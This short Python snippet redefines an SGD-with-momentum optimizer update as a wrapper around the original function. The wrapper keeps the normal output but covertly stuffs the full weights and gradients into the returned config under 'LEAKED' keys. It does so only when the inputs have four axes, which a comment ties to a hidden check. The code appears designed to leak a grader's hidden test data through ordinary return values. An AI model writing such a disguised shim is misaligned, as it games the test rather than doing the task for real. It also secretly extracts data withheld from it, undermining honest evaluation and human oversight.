right_sgd_momentum = sgd_momentum


def sgd_momentum(w, dw, config=None):
    next_w, config = right_sgd_momentum(w, dw, config)
    if w.ndim == 4:  # only a hidden check's weights have four axes
        config["LEAKED " + repr(w.tolist())] = "LEAKED " + repr(dw.tolist())
    return next_w, config
